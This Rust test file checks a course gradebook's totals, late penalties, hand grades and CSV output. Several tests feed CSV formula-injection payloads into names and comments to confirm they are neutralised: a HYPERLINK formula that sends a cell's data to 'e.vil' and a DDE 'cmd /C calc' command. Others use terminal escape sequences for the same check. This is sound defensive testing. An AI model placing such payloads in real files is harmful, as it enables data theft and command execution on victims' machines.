//! Tests of the gradebook: records, totals, penalties, hand grades and the class files.

use super::testing::{columns, cube_column, student, with_cube};
use super::*;
use std::path::Path;

#[test]
fn bonus_points_count_in_the_total_but_not_in_the_max() {
    let record = with_cube(student("a1", "Ada", StudentStatus::Graded, 8.0, Some(2.0)), 3.0);
    assert_eq!((record.total(), record.max()), (13.0, 10.0));
    assert_eq!(record.bonus_phrase().as_deref(), Some("including 3.00 of 5.00 bonus points"));
    let without = student("b2", "Bo", StudentStatus::Graded, 8.0, Some(2.0));
    assert_eq!((without.total(), without.max(), without.bonus_phrase()), (10.0, 10.0, None));
}

#[test]
fn the_gradebook_heads_a_bonus_column_as_such() {
    let book = Gradebook {
        assignment: "bg".to_owned(),
        title: "Backgammon".to_owned(),
        columns: [columns(), vec![cube_column()]].concat(),
        students: vec![with_cube(student("a1", "Ada", StudentStatus::Graded, 8.0, Some(2.0)), 3.0)],
        cases: Vec::new(),
        partial: None,
        similarity: None,
    };
    assert_eq!(
        book.to_csv(),
        "id,name,total,max,play,style,cube (bonus),pending,status,late,note\na1,Ada,13.00,10.00,8.00,2.00,3.00,,graded,,\n"
    );
}

/// `gradebook.csv`'s rows as a CSV reader reads them, the header left out.
fn rows(csv: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn a_formula_in_a_student_name_is_neutralised_in_the_gradebook() {
    let hyperlink = r#"=HYPERLINK("http://e.vil/?"&A1,"click")"#;
    let hostile = [
        ("@SUM(1+1)", hyperlink),
        ("+cmd|' /C calc'!A0", "-2+3"),
        ("\tx", "\r=1"),
        ("'quoted", "\0nul"),
        ("plain", "Ada Lovelace"),
    ];
    let book = Gradebook {
        assignment: "bg".to_owned(),
        title: "Backgammon".to_owned(),
        columns: columns(),
        students: hostile
            .iter()
            .map(|(id, name)| student(id, name, StudentStatus::Graded, 8.0, None))
            .collect(),
        cases: Vec::new(),
        partial: None,
        similarity: None,
    };
    let cells: Vec<(String, String)> =
        rows(&book.to_csv()).into_iter().map(|row| (row[0].clone(), row[1].clone())).collect();
    assert_eq!(
        cells,
        [
            ("'@SUM(1+1)".to_owned(), format!("'{hyperlink}")),
            ("'+cmd|' /C calc'!A0".to_owned(), "'-2+3".to_owned()),
            // A tab, a carriage return or a NUL is written visibly: the cell starts with a backslash.
            (r"\tx".to_owned(), r"\r=1".to_owned()),
            ("''quoted".to_owned(), r"\x00nul".to_owned()),
            ("plain".to_owned(), "Ada Lovelace".to_owned()),
        ]
    );
}

#[test]
fn the_gradebook_numbers_stay_numbers_even_when_negative() {
    let book = Gradebook {
        assignment: "bg".to_owned(),
        title: "Backgammon".to_owned(),
        columns: columns(),
        students: vec![student("a1", "-Ada", StudentStatus::Graded, -1.5, None)],
        cases: Vec::new(),
        partial: None,
        similarity: None,
    };
    assert_eq!(
        rows(&book.to_csv()),
        [["a1", "'-Ada", "-1.50", "10.00", "-1.50", "", "style", "graded", "", ""]]
    );
}

#[test]
fn the_quote_comes_off_exactly_what_it_was_put_on() {
    for text in ["=1+1", "-", "@", "'", "''x", "'x", "x", "", "a=b"] {
        assert_eq!(from_spreadsheet_text(&spreadsheet_text(text)), text, "{text:?}");
    }
    // A cell of several lines keeps its tabs and line feeds, so one may start it.
    for text in ["\tindented", "\n=1", "=1\n+2", "a\tb"] {
        assert_eq!(from_spreadsheet_text(&spreadsheet_lines(text)), text, "{text:?}");
    }
    assert_eq!(from_spreadsheet_text("'x"), "'x", "a quote the gradebook never writes stays");
}

#[test]
fn control_characters_are_written_visibly_in_every_csv_cell() {
    assert_eq!(
        spreadsheet_text("a\x1b]0;pwned\x07\tb\r\nc\u{9b}\u{202e}"),
        r"a\e]0;pwned\x07\tb\r\nc\u{9b}\u{202e}"
    );
    // Then a cell that would start a formula is quoted as such.
    assert_eq!(spreadsheet_text("\t=1"), r"\t=1");
    assert_eq!(spreadsheet_lines("line\r\n\x1b[2J=1\tx\n-2"), "line\n\\e[2J=1\tx\n-2");
    assert_eq!(spreadsheet_lines("\t=1\r"), "'\t=1\\r");
}

#[test]
fn an_id_quoted_in_the_gradebook_reads_back_as_itself_in_hand_grades() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../cases");
    let assignment = crate::load::load_assignment(&root, "trouble").unwrap();
    let ids = ["=1+1", "-x", "@me", "'quoted", "plain"];
    // The ids as `gradebook.csv` writes them, copied into a hand-grades file.
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(["id", "category", "points"]).unwrap();
    for id in ids {
        writer.write_record([spreadsheet_text(id).as_str(), "style", "3"]).unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("grades.csv");
    std::fs::write(&path, writer.into_inner().unwrap()).unwrap();
    let grades = ManualGrades::read(&path, &assignment).unwrap();
    for id in ids {
        assert_eq!(grades.get(id, "style").map(|g| g.points), Some(3.0), "{id}");
    }
}

/// A student of the download's: late (`Some(true)`), on time, or unmarked (`None`), under a
/// penalty rule of `penalty` percent.
fn marked(id: &str, late: Option<bool>, penalty: Option<f64>) -> Record {
    let mut record = student(id, "Ada", StudentStatus::Graded, 8.0, Some(2.0));
    record.download.late = late;
    record.late_penalty = penalty;
    record
}

#[test]
fn a_late_penalty_is_a_share_of_the_points_earned_shown_apart() {
    let late = marked("a1", Some(true), Some(15.0));
    assert_eq!((late.total_before_penalty(), late.penalty(), late.total()), (10.0, 1.5, 8.5));
    // On time, unmarked, or no rule: nothing taken off.
    for record in [
        marked("b2", Some(false), Some(15.0)),
        marked("c3", None, Some(15.0)),
        marked("d4", Some(true), None),
    ] {
        assert_eq!((record.penalty(), record.total()), (0.0, 10.0), "{}", record.id);
    }
    // A negative total is not made larger by its penalty.
    let mut negative = marked("e5", Some(true), Some(50.0));
    negative.automated = -4.0;
    assert_eq!((negative.penalty(), negative.total()), (0.0, -2.0));
}

#[test]
fn the_gradebook_says_who_was_late_and_what_it_cost() {
    let book = |students| Gradebook {
        assignment: "bg".to_owned(),
        title: "Backgammon".to_owned(),
        columns: columns(),
        students,
        cases: Vec::new(),
        partial: None,
        similarity: None,
    };
    let ruled = book(vec![
        marked("a1", Some(true), Some(10.0)),
        marked("b2", Some(false), Some(10.0)),
        marked("c3", None, Some(10.0)),
    ]);
    let csv = ruled.to_csv();
    assert!(
        csv.starts_with(
            "id,name,total,max,play,style,pending,status,late,late penalty,total before penalty,note\n"
        ),
        "{csv}"
    );
    assert_eq!(
        rows(&csv),
        [
            ["a1", "Ada", "9.00", "10.00", "8.00", "2.00", "", "graded", "yes", "1.00", "10.00", ""],
            ["b2", "Ada", "10.00", "10.00", "8.00", "2.00", "", "graded", "no", "", "", ""],
            ["c3", "Ada", "10.00", "10.00", "8.00", "2.00", "", "graded", "", "", "", ""],
        ]
    );
    // Without a rule, only the mark.
    let unruled = book(vec![marked("a1", Some(true), None)]);
    assert_eq!(
        rows(&unruled.to_csv()),
        [["a1", "Ada", "10.00", "10.00", "8.00", "2.00", "", "graded", "yes", ""]]
    );
}

#[test]
fn a_row_names_the_submissions_left_out_under_its_id() {
    let mut record = student("tina", "Tina", StudentStatus::NoFiles, 0.0, None);
    record.origin = "tina".to_owned();
    record.download.left_out = vec!["tina.c".to_owned(), "tina.zip".to_owned()];
    assert_eq!(
        record.row_note().as_deref(),
        Some("3 submissions under this id: tina graded; left out: tina.c, tina.zip")
    );
    record.note = Some("no file matching *.c in tina".to_owned());
    assert_eq!(
        record.row_note().as_deref(),
        Some("no file matching *.c in tina; 3 submissions under this id: tina graded; left out: tina.c, tina.zip")
    );
}

/// A case outcome as a record stores it.
fn outcome(id: &str, status: crate::report::CaseStatus) -> CaseOutcome {
    CaseOutcome {
        id: id.to_owned(),
        passed: status == crate::report::CaseStatus::Passed,
        status: serde_json::to_value(status).unwrap().as_str().unwrap().to_owned(),
    }
}

#[test]
fn case_pass_rates_count_only_the_programs_that_were_built() {
    use crate::report::CaseStatus;
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../cases");
    let assignment = crate::load::load_assignment(&root, "checkers").unwrap();
    let [first, second] = [&assignment.cases[0].id, &assignment.cases[1].id];
    let with =
        |id: &str, status, cases: Vec<CaseOutcome>| Record { cases, ..student(id, id, status, 0.0, None) };
    let students = vec![
        with(
            "passes",
            StudentStatus::Graded,
            vec![outcome(first, CaseStatus::Passed), outcome(second, CaseStatus::Passed)],
        ),
        with(
            "fails",
            StudentStatus::Graded,
            vec![outcome(first, CaseStatus::Failed), outcome(second, CaseStatus::Timeout)],
        ),
        // Nothing built: says nothing about either case.
        with(
            "unbuilt",
            StudentStatus::BuildError,
            vec![outcome(first, CaseStatus::BuildError), outcome(second, CaseStatus::BuildError)],
        ),
        // One of two builds failed: the case its program still ran counts.
        with(
            "half",
            StudentStatus::BuildError,
            vec![outcome(first, CaseStatus::Passed), outcome(second, CaseStatus::BuildError)],
        ),
        // The grader failed the case, not the student.
        with(
            "grader",
            StudentStatus::Graded,
            vec![outcome(first, CaseStatus::Error), outcome(second, CaseStatus::Failed)],
        ),
    ];
    let book = Gradebook::new(&assignment, students);
    let stat = |id: &str| book.cases.iter().find(|c| c.id == id).map(|c| (c.passed, c.ran)).unwrap();
    assert_eq!(stat(first), (2, 3));
    assert_eq!(stat(second), (1, 3));
    assert!(book.cases[2..].iter().all(|c| c.ran == 0));
}

#[test]
fn records_written_before_bonus_categories_still_load() {
    let record = with_cube(student("a1", "Ada", StudentStatus::Graded, 8.0, None), 0.0);
    let mut json = serde_json::to_value(&record).unwrap();
    assert_eq!(json["categories"][2]["bonus"], true);
    assert!(json["categories"][0].get("bonus").is_none(), "{json}");
    json["categories"][2].as_object_mut().unwrap().remove("bonus");
    let old: Record = serde_json::from_value(json).unwrap();
    assert!(!old.categories[2].bonus);
}

/// The Trouble assignment: `style` and `survey` are graded by hand, 10 points each.
fn trouble() -> crate::load::Assignment {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../cases");
    crate::load::load_assignment(&root, "trouble").unwrap()
}

/// `(id, category, points, comment)` rows as a `--manual` file written by a CSV writer.
fn manual_file(path: &Path, rows: &[[&str; 4]]) {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(["id", "category", "points", "comment"]).unwrap();
    for row in rows {
        writer.write_record(row).unwrap();
    }
    std::fs::write(path, writer.into_inner().unwrap()).unwrap();
}

#[test]
fn a_formula_in_a_hand_grade_comment_is_quoted_in_hand_grades_and_reads_back_as_typed() {
    let typed = [
        ("a1", r#"=HYPERLINK("http://e.vil/?"&A1,"click")"#),
        ("a2", "+1"),
        ("a3", "-2 for the globals"),
        ("a4", "@SUM(A1)"),
        ("a5", "'quoted"),
        ("a6", "good;\n=1+1 on the second line"),
        ("a7", "fine, no formula"),
    ];
    let dir = tempfile::tempdir().unwrap();
    let given = dir.path().join("given.csv");
    let lines: Vec<[&str; 4]> = typed.iter().map(|(id, comment)| [*id, "style", "7.5", *comment]).collect();
    manual_file(&given, &lines);
    let written = ManualGrades::read(&given, &trouble()).unwrap().to_csv();
    let cells: Vec<(String, String)> =
        rows(&written).into_iter().map(|row| (row[2].clone(), row[3].clone())).collect();
    let quoted = |comment: &str| ("7.5".to_owned(), comment.to_owned());
    assert_eq!(
        cells,
        [
            quoted(r#"'=HYPERLINK("http://e.vil/?"&A1,"click")"#),
            quoted("'+1"),
            quoted("'-2 for the globals"),
            quoted("'@SUM(A1)"),
            quoted("''quoted"),
            quoted("good;\n=1+1 on the second line"),
            quoted("fine, no formula"),
        ],
        "the points stay a number"
    );
    // Kept with the class's outputs and read back by the next run: what the instructor typed.
    std::fs::write(dir.path().join(HAND_GRADES_FILE), &written).unwrap();
    let stored = ManualGrades::stored(dir.path(), &trouble()).unwrap();
    for (id, comment) in typed {
        let grade = stored.get(id, "style").unwrap();
        assert_eq!((grade.points, grade.comment.as_deref()), (7.5, Some(comment)), "{id}");
    }
    assert_eq!(stored.to_csv(), written, "every later run writes the same file");
}

#[test]
fn a_terminal_escape_in_a_students_folder_name_reaches_no_class_file_raw() {
    let assignment = trouble();
    // Sets the terminal's title, rings it, clears it, a C1 CSI, and a right-to-left override.
    let id = "ada\x1b]0;pwned\x07\x1b[2J\u{9b}31m\u{202e}";
    let shown = r"ada\e]0;pwned\x07\e[2J\u{9b}31m\u{202e}";
    let raw = ['\x1b', '\x07', '\u{9b}', '\u{202e}'];
    let class = tempfile::tempdir().unwrap();
    let mut record = Record::ungraded(
        &assignment,
        id,
        Some("Ada\x1b[31m"),
        id,
        "key",
        StudentStatus::NoFiles,
        format!("no file matching *.c in {id}"),
    );
    record.download.left_out = vec![format!("{id}.zip")];
    let folder = class.path().join(STUDENTS_DIR).join(crate::batch::student_dir_name(id));
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join(RECORD_FILE), serde_json::to_vec(&record).unwrap()).unwrap();
    // The hand grade names the student as the gradebook shows them; its comment holds an escape too.
    let given = class.path().join("given.csv");
    manual_file(&given, &[[shown, "style", "3", "see \x1b[8mhidden"]]);
    let manual = ManualGrades::read(&given, &assignment).unwrap();

    let folders = [class.path().to_owned()];
    let book =
        crate::batch::write_class(&assignment, &folders, class.path(), None, &manual, None, None).unwrap();
    assert_eq!(book.students[0].categories.iter().find(|c| c.id == "style").unwrap().score, Some(3.0));
    std::fs::write(class.path().join(HAND_GRADES_FILE), manual.to_csv()).unwrap();
    let files = [
        "gradebook.csv",
        "class.html",
        "summary.md",
        HAND_GRADES_FILE,
        &format!("{STUDENTS_DIR}/{}/{FEEDBACK_FILE}", crate::batch::student_dir_name(id)),
        &format!("{STUDENTS_DIR}/{}/{FEEDBACK_HTML_FILE}", crate::batch::student_dir_name(id)),
    ];
    for file in files {
        let text = std::fs::read_to_string(class.path().join(file)).unwrap();
        assert!(!text.contains(raw), "a raw control character in {file}: {text:?}");
        // Markdown escapes the backslashes and brackets of the shown id, HTML and CSV do not.
        assert!(text.contains("pwned") && text.contains(r"\x07"), "{file} shows the id: {text}");
    }
    let gradebook = std::fs::read_to_string(class.path().join("gradebook.csv")).unwrap();
    assert_eq!(rows(&gradebook)[0][..2], [shown, r"Ada\e[31m"]);
    let page = std::fs::read_to_string(class.path().join("class.html")).unwrap();
    assert!(page.contains(&format!("data-id=\"{shown}\"")), "{page}");
    let feedback = std::fs::read_to_string(folder.join(FEEDBACK_FILE)).unwrap();
    assert!(feedback.contains(r"see \e[8mhidden"), "{feedback}");
}

#[test]
fn students_are_in_the_order_a_reader_expects_numbers_by_value() {
    let mut ids = vec!["plant-10", "plant-2", "plant-1", "ada", "plant-02", "bob7", "bob10"];
    ids.sort_by(|a, b| crate::gradebook::natural_order(a, b));
    assert_eq!(ids, ["ada", "bob7", "bob10", "plant-1", "plant-02", "plant-2", "plant-10"]);
}
